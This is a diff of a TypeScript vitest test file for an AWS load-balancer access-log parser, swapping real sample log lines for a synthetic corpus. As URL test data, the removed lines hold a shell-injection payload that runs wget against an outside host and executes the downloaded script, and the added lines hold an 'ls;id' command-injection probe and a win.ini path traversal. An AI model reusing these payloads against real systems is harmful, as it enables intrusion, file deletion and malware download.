@@ -1,7 +1,8 @@
-// VRL-style table: real example lines with the document we expect from them.
+// VRL-style table: example lines of every shape (test/corpus, written from the documented format)
+// with the document we expect from them.
 import { describe, expect, it } from 'vitest';
 import { parseAlbLine, type AlbDocument } from '../../../transform/parser/index.ts';
-import { LINE_36_FIELDS_IPV6, sampleLines } from './sample-lines.ts';
+import { corpusLine, LINE_36_FIELDS_IPV6 } from '../../corpus.ts';
 
 function documentOf(line: string, options?: Parameters<typeof parseAlbLine>[1]): AlbDocument {
   const result = parseAlbLine(line, options);
@@ -15,56 +16,51 @@ function withoutId(doc: AlbDocument): AlbDocument {
   return { ...doc, event };
 }
 
-const awsHttp = sampleLines('aws-docs_2023-04_access-log-examples.log')[0]!;
-const beats = sampleLines('beats_example-alb-http.log');
-const spaceInUri = sampleLines('elastic-integrations_elb_logs_test-alb.log')[1]!;
-const loki = sampleLines('loki-lambda-promtail_albaccesslog.log');
-const clientClosed = sampleLines('centralized-logging-with-opensearch_elb.log')[1]!;
-const grpc = sampleLines('coralogix-aws-shipper_elb.log')[0]!;
-
+const http = corpusLine('http');
 const ipv6With36Fields = LINE_36_FIELDS_IPV6;
 
 describe('parseAlbLine: example table', () => {
-  it('AWS doc http line: every field typed', () => {
-    expect(withoutId(documentOf(awsHttp))).toEqual({
-      '@timestamp': '2018-07-02T22:23:00.186641Z',
+  it('http line: every field typed', () => {
+    expect(withoutId(documentOf(http))).toEqual({
+      '@timestamp': '2024-03-11T08:15:42.512907Z',
       event: {
         kind: 'event', category: ['web'], type: ['access'], outcome: 'success',
-        start: '2018-07-02T22:22:48.364000Z', duration: 11_822_641_000,
+        start: '2024-03-11T08:15:42.507000Z', duration: 5_907_000, // 42.512907 - 42.507000 s
       },
-      cloud: { provider: 'aws', region: 'us-east-2', account: { id: '123456789012' } },
+      // region and account from the target group ARN
+      cloud: { provider: 'aws', region: 'eu-west-1', account: { id: '210987654321' } },
       aws: {
         elb: {
-          type: 'http', name: 'app/my-loadbalancer/50dc6c495c0c9188',
-          backend: { ip: '10.0.0.1', port: 80, http: { response: { status_code: 200 } } },
-          request_processing_time: { sec: 0 }, backend_processing_time: { sec: 0.001 }, response_processing_time: { sec: 0 },
-          target_group: { arn: 'arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067' },
-          matched_rule_priority: 0, action_executed: ['forward'], target_port: ['10.0.0.1:80'], target_status_code: ['200'],
+          type: 'http', name: 'app/shop-alb/7a1c9e24b5d03f86',
+          backend: { ip: '10.0.1.17', port: 8080, http: { response: { status_code: 200 } } },
+          request_processing_time: { sec: 0.001 }, backend_processing_time: { sec: 0.004 }, response_processing_time: { sec: 0 },
+          target_group: { arn: 'arn:aws:elasticloadbalancing:eu-west-1:210987654321:targetgroup/shop-web/4f2a9c1d7e6b3a50' },
+          matched_rule_priority: 0, action_executed: ['forward'], target_port: ['10.0.1.17:8080'], target_status_code: ['200'],
         },
       },
-      source: { address: '192.168.131.39', ip: '192.168.131.39', port: 2817 },
-      http: { request: { method: 'GET', bytes: 34 }, response: { status_code: 200, bytes: 366 }, version: '1.1' },
-      url: { original: 'http://www.example.com:80/', scheme: 'http', domain: 'www.example.com', port: 80, path: '/' },
-      user_agent: { original: 'curl/7.46.0' },
-      trace: { id: 'Root=1-58337262-36d228ad5d99923122bbe354' },
+      source: { address: '198.51.100.23', ip: '198.51.100.23', port: 51234 },
+      http: { request: { method: 'GET', bytes: 412 }, response: { status_code: 200, bytes: 1873 }, version: '1.1' },
+      url: { original: 'http://shop.example.net:80/catalog?page=2', scheme: 'http', domain: 'shop.example.net', port: 80, path: '/catalog', query: 'page=2' },
+      user_agent: { original: 'curl/8.5.0' },
+      trace: { id: 'Root=1-65eebd2e-3c9a0f5b1d2e4f6a7b8c9d0e' },
     });
   });
 
   it('malformed request "- http://host:80- -": no method/version, URL kept, host and port still derived', () => {
-    const doc = withoutId(documentOf(beats[7]!));
+    const doc = withoutId(documentOf(corpusLine('malformed-url-no-method')));
     expect(doc).toEqual({
-      '@timestamp': '2018-11-30T22:23:00.186641Z',
-      event: { kind: 'event', category: ['web'], type: ['access'], outcome: 'failure', start: '2018-11-30T22:22:48.364000Z', duration: 11_822_641_000 },
+      '@timestamp': '2024-03-11T08:23:11.000001Z',
+      event: { kind: 'event', category: ['web'], type: ['access'], outcome: 'failure', start: '2024-03-11T08:23:10.990000Z', duration: 10_001_000 },
       cloud: { provider: 'aws' },
-      aws: { elb: { type: 'http', name: 'app/my-loadbalancer/50dc6c495c0c9188', matched_rule_priority: 0 } },
-      source: { address: '192.168.131.39', ip: '192.168.131.39', port: 2817 },
+      aws: { elb: { type: 'http', name: 'app/shop-alb/7a1c9e24b5d03f86' } },
+      source: { address: '198.51.100.99', ip: '198.51.100.99', port: 4711 },
       http: { request: { bytes: 0 }, response: { status_code: 400, bytes: 0 } },
-      url: { original: 'http://www.example.com:80-', scheme: 'http', domain: 'www.example.com', port: 80 },
+      url: { original: 'http://shop.example.net:80-', scheme: 'http', domain: 'shop.example.net', port: 80 },
     });
   });
 
   it('"- - -" request: no method, URL or version at all', () => {
-    const doc = documentOf(beats[8]!);
+    const doc = documentOf(corpusLine('malformed-dashes'));
     expect(doc.url).toBeUndefined();
     expect(doc.http).toEqual({ request: { bytes: 0 }, response: { status_code: 400, bytes: 0 } });
     expect(doc.aws?.elb?.action_executed).toBeUndefined();
@@ -101,13 +97,13 @@ describe('parseAlbLine: example table', () => {
   });
 
   it('raw spaces in the URL (SpaceInUri) stay in url.original, path and query', () => {
-    const doc = documentOf(spaceInUri);
+    const doc = documentOf(corpusLine('space-in-uri'));
     expect(doc.url).toEqual({
-      original: 'http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws',
-      scheme: 'http', domain: '127.0.0.1', port: 80, path: '/shell', query: 'cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws',
+      original: 'http://198.51.100.250:80/cgi-bin/run?cmd=ls -la /tmp;id',
+      scheme: 'http', domain: '198.51.100.250', port: 80, path: '/cgi-bin/run', query: 'cmd=ls -la /tmp;id',
     });
     expect(doc.http?.version).toBe('1.1');
-    expect(doc.aws?.elb?.redirect_url).toBe('https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws');
+    expect(doc.aws?.elb?.redirect_url).toBe('https://198.51.100.250:443/cgi-bin/run?cmd=ls -la /tmp;id');
     expect(doc.aws?.elb?.classification).toBe('Acceptable');
     expect(doc.aws?.elb?.classification_reason).toBe('SpaceInUri');
     expect(doc.aws?.elb?.backend).toBeUndefined();
@@ -116,63 +112,93 @@ describe('parseAlbLine: example table', () => {
   });
 
   it('anonymised 5-octet client IP: typed field left out, text kept, document tagged', () => {
-    const doc = documentOf(loki[0]!);
-    expect(doc.source).toEqual({ address: '12.34.178.90.32', port: 40860 });
+    const doc = documentOf(corpusLine('anonymised-ip'));
+    expect(doc.source).toEqual({ address: '10.200.300.4.5', port: 40000 });
     expect(doc.tags).toEqual(['malformed_source.ip']);
     expect(doc.aws?.elb?.action_executed).toEqual(['redirect']);
-    expect(doc.aws?.elb?.redirect_url).toBe('https://5.334.234.101:443/');
-    expect(documentOf(loki[1]!).tls?.client?.server_name).toBe('5.334.234.101:443');
+    expect(doc.aws?.elb?.redirect_url).toBe('https://shop.example.net:443/');
+    expect(doc.tls?.client?.server_name).toBe('10.200.300.4:443');
   });
 
   it('client closed (460): measured request time kept, -1 times and "-" target status left out', () => {
-    const doc = documentOf(clientClosed);
+    const doc = documentOf(corpusLine('client-closed-460'));
     expect(doc.aws?.elb?.request_processing_time).toEqual({ sec: 0.003 });
     expect(doc.aws?.elb?.backend_processing_time).toBeUndefined();
     expect(doc.aws?.elb?.response_processing_time).toBeUndefined();
-    expect(doc.aws?.elb?.backend).toEqual({ ip: '10.255.3.161', port: 443 });
+    expect(doc.aws?.elb?.backend).toEqual({ ip: '10.0.2.31', port: 443 });
     expect(doc.aws?.elb?.target_status_code).toBeUndefined();
     expect(doc.http?.response?.status_code).toBe(460);
     expect(doc.event?.outcome).toBe('failure');
   });
 
   it('gRPC over HTTP/2 with TLS 1.3', () => {
-    const doc = documentOf(grpc);
+    const doc = documentOf(corpusLine('grpcs'));
     expect(doc.aws?.elb?.type).toBe('grpcs');
     expect(doc.http?.version).toBe('2.0');
     expect(doc.http?.request?.method).toBe('POST');
-    expect(doc.url?.path).toBe('/example.metrics.v1.MetricsService/ReportMetrics');
-    expect(doc.tls).toEqual({ cipher: 'TLS_AES_128_GCM_SHA256', version: '1.3', version_protocol: 'tls', client: { server_name: 'metrics.example.com' } });
-    expect(doc.user_agent?.original).toBe('grpc-go/1.46.2');
+    expect(doc.url?.path).toBe('/example.telemetry.v2.Ingest/Push');
+    expect(doc.tls).toEqual({ cipher: 'TLS_AES_128_GCM_SHA256', version: '1.3', version_protocol: 'tls', client: { server_name: 'telemetry.example.net' } });
+    expect(doc.user_agent?.original).toBe('grpc-go/1.62.1');
   });
 
   it('typo line with a missing space after a quote ("-"1) is recovered and tagged', () => {
-    const doc = documentOf(beats[4]!);
+    const doc = documentOf(corpusLine('missing-space-typo'));
     expect(doc.aws?.elb?.matched_rule_priority).toBe(1);
-    expect(doc.event?.start).toBe('2018-07-02T22:22:48.364000Z');
+    expect(doc.event?.start).toBe('2019-06-01T12:00:00.498000Z');
+    expect(doc.aws?.elb?.target_port).toEqual(['10.0.9.9:80']);
     expect(doc.aws?.elb?.action_executed).toEqual(['forward']);
     expect(doc.tags).toEqual(['missing_space_after_quote']);
   });
 
   it('oldest 20-field and 21-field lines (2018-02 / 2018-03)', () => {
-    const words = awsHttp.split(' '); // the request holds two spaces: 20 fields = 22 words
-    const twenty = documentOf(words.slice(0, 22).join(' '));
-    expect(twenty.aws?.elb?.chosen_cert).toBeUndefined();
+    const twenty = documentOf(corpusLine('fields-20'));
+    expect(twenty.aws?.elb?.chosen_cert).toEqual({ arn: 'arn:aws:acm:eu-west-1:210987654321:certificate/9a0b1c2d-3e4f-5061-7d89-e0f1a2b3c4d5' });
     expect(twenty.aws?.elb?.matched_rule_priority).toBeUndefined();
-    expect(twenty.trace?.id).toBe('Root=1-58337262-36d228ad5d99923122bbe354');
-    const twentyOne = documentOf(words.slice(0, 23).join(' '));
+    expect(twenty.event?.start).toBeUndefined();
+    expect(twenty.trace?.id).toBe('Root=1-5a880c9c-445566778899aabbccddeeff');
+    const twentyOne = documentOf(corpusLine('fields-21'));
     expect(twentyOne.aws?.elb?.matched_rule_priority).toBe(0);
     expect(twentyOne.event?.start).toBeUndefined();
+    // the same shape cut from a current line: the request holds two spaces, so 20 fields = 22 words
+    const words = http.split(' ');
+    expect(documentOf(words.slice(0, 22).join(' ')).aws?.elb?.matched_rule_priority).toBeUndefined();
+    expect(documentOf(words.slice(0, 23).join(' ')).aws?.elb?.matched_rule_priority).toBe(0);
+  });
+
+  it('25-field line (2018-11 to 2019-11): error reason, no target lists', () => {
+    const doc = documentOf(corpusLine('fields-25-lambda-error'));
+    expect(doc.aws?.elb?.error).toEqual({ reason: 'LambdaUnhandled' });
+    expect(doc.aws?.elb?.target_port).toBeUndefined();
+    expect(doc.aws?.elb?.classification).toBeUndefined();
+  });
+
+  it('escapes: \\xHH and the 8-digit \\x000000HH form are decoded, UTF-8 bytes joined', () => {
+    const doc = documentOf(corpusLine('escapes'));
+    expect(doc.user_agent?.original).toBe('"Mozilla/5.0 (compatible; \uC5D0\uB2E4)" "quoted"');
+    expect(doc.aws?.elb?.redirect_url).toBe('https://shop.example.net:443/..\\..\\windows\\win.ini');
+  });
+
+  it('empty actions "" are left out; a domain with a leading space is kept as sent', () => {
+    const doc = documentOf(corpusLine('empty-actions-space-domain'));
+    expect(doc.aws?.elb?.action_executed).toBeUndefined();
+    expect(doc.tls?.client?.server_name).toBe(' www.example.net');
+  });
+
+  it('target lists with several items become arrays', () => {
+    const doc = documentOf(corpusLine('multi-target-lists'));
+    expect(doc.aws?.elb?.target_port).toEqual(['10.0.1.17:8080', '10.0.1.18:8080']);
+    expect(doc.aws?.elb?.target_status_code).toEqual(['200', '503']);
   });
 
   it('Lambda target failure: error reason, no target', () => {
-    const doc = documentOf(sampleLines('aws-docs_2023-04_access-log-examples.log')[6]!);
+    const doc = documentOf(corpusLine('lambda-failure'));
     expect(doc.aws?.elb?.error).toEqual({ reason: 'LambdaInvalidResponse' });
     expect(doc.aws?.elb?.backend).toBeUndefined();
     expect(doc.http?.response?.status_code).toBe(502);
   });
 
   it('matched_rule_priority -1 (rule evaluation error) is kept; "-" is left out', () => {
-    const base = awsHttp.split(' ');
+    const base = http.split(' ');
     const withPriority = (p: string): AlbDocument => documentOf([...base.slice(0, 22), p, ...base.slice(23)].join(' '));
     expect(withPriority('-1').aws?.elb?.matched_rule_priority).toBe(-1);
     expect(withPriority('-').aws?.elb?.matched_rule_priority).toBeUndefined();
@@ -181,12 +207,12 @@ describe('parseAlbLine: example table', () => {
 
   it('source, original and cloud fields', () => {
     const key = 'AWSLogs/123456789012/elasticloadbalancing/eu-central-1/2019/10/11/123456789012_elasticloadbalancing_eu-central-1_app.x.8e858b04373118d3_20191011T1505Z_3.224.132.43_39xza92o.log.gz';
-    const doc = documentOf(awsHttp, { source: { bucket: 'logs', key, offset: 4096 }, original: true });
+    const doc = documentOf(http, { source: { bucket: 'logs', key, offset: 4096 }, original: true });
     expect(doc.log).toEqual({ file: { path: `s3://logs/${key}` }, offset: 4096 });
     expect(doc.cloud).toEqual({ provider: 'aws', account: { id: '123456789012' }, region: 'eu-central-1' });
-    expect(doc.event?.original).toBe(awsHttp);
-    expect(documentOf(awsHttp).event?.original).toBeUndefined();
-    expect(documentOf(`${awsHttp}\r\n`, { original: true }).event?.original).toBe(awsHttp);
+    expect(doc.event?.original).toBe(http);
+    expect(documentOf(http).event?.original).toBeUndefined();
+    expect(documentOf(`${http}\r\n`, { original: true }).event?.original).toBe(http);
   });
 });
 
@@ -195,19 +221,19 @@ describe('parseAlbLine: event.id', () => {
   const id = (line: string, options?: Parameters<typeof parseAlbLine>[1]): string | undefined => documentOf(line, options).event?.id;
 
   it('is deterministic for the same line and source', () => {
-    expect(id(awsHttp, { source })).toBe(id(awsHttp, { source: { ...source } }));
-    expect(id(awsHttp)).toBe(id(awsHttp));
+    expect(id(http, { source })).toBe(id(http, { source: { ...source } }));
+    expect(id(http)).toBe(id(`${http}`));
   });
   it('differs by offset, key and bucket when the source is known', () => {
     const ids = new Set([
-      id(awsHttp, { source }), id(awsHttp, { source: { ...source, offset: 11 } }),
-      id(awsHttp, { source: { ...source, key: 'other.log.gz' } }), id(awsHttp, { source: { ...source, bucket: 'c' } }),
-      id(awsHttp, { source: { key: source.key, offset: 10 } }),
+      id(http, { source }), id(http, { source: { ...source, offset: 11 } }),
+      id(http, { source: { ...source, key: 'other.log.gz' } }), id(http, { source: { ...source, bucket: 'c' } }),
+      id(http, { source: { key: source.key, offset: 10 } }),
     ]);
     expect(ids.size).toBe(5);
   });
   it('differs by line content when there is no source', () => {
-    expect(id(awsHttp)).not.toBe(id(beats[1]!));
+    expect(id(http)).not.toBe(id(corpusLine('https-authenticate')));
   });
 });
 
@@ -226,23 +252,23 @@ describe('parseAlbLine: skipped and failed lines', () => {
       .toEqual({ kind: 'failed', reason: 'line has 8 fields; an ALB access-log line has at least 20' });
   });
   it('rejects a time that is not a timestamp', () => {
-    const line = awsHttp.replace('2018-07-02T22:23:00.186641Z', '2018-13-02T22:23:00.186641Z');
+    const line = http.replace('2024-03-11T08:15:42.512907Z', '2024-13-11T08:15:42.512907Z');
     const result = parseAlbLine(line);
     expect(result.kind).toBe('failed');
-    expect(result.kind === 'failed' && result.reason).toMatch(/^time field "2018-13-02T22:23:00.186641Z" is not/);
+    expect(result.kind === 'failed' && result.reason).toMatch(/^time field "2024-13-11T08:15:42.512907Z" is not/);
   });
   it('rejects a line cut inside the user agent (unterminated quote)', () => {
-    const cut = awsHttp.slice(0, awsHttp.indexOf('curl/') + 3);
+    const cut = http.slice(0, http.indexOf('curl/') + 3);
     expect(parseAlbLine(cut)).toEqual({ kind: 'failed', reason: 'unterminated quote in field 14 (user_agent)' });
   });
   it('keeps a line cut inside a late optional field, tagged', () => {
-    const cut = awsHttp.slice(0, awsHttp.lastIndexOf('"200"') + 3);
+    const cut = http.slice(0, http.lastIndexOf('"200"') + 3);
     const doc = documentOf(cut);
     expect(doc.tags).toEqual(['unterminated_quote']);
     expect(doc.aws?.elb?.target_status_code).toEqual(['20']);
   });
   it('rejects a line whose request is not quoted (fields out of place)', () => {
-    const result = parseAlbLine(awsHttp.replace('"GET http://www.example.com:80/ HTTP/1.1"', 'GET'));
+    const result = parseAlbLine(http.replace('"GET http://shop.example.net:80/catalog?page=2 HTTP/1.1"', 'GET'));
     expect(result.kind).toBe('failed');
   });
 });
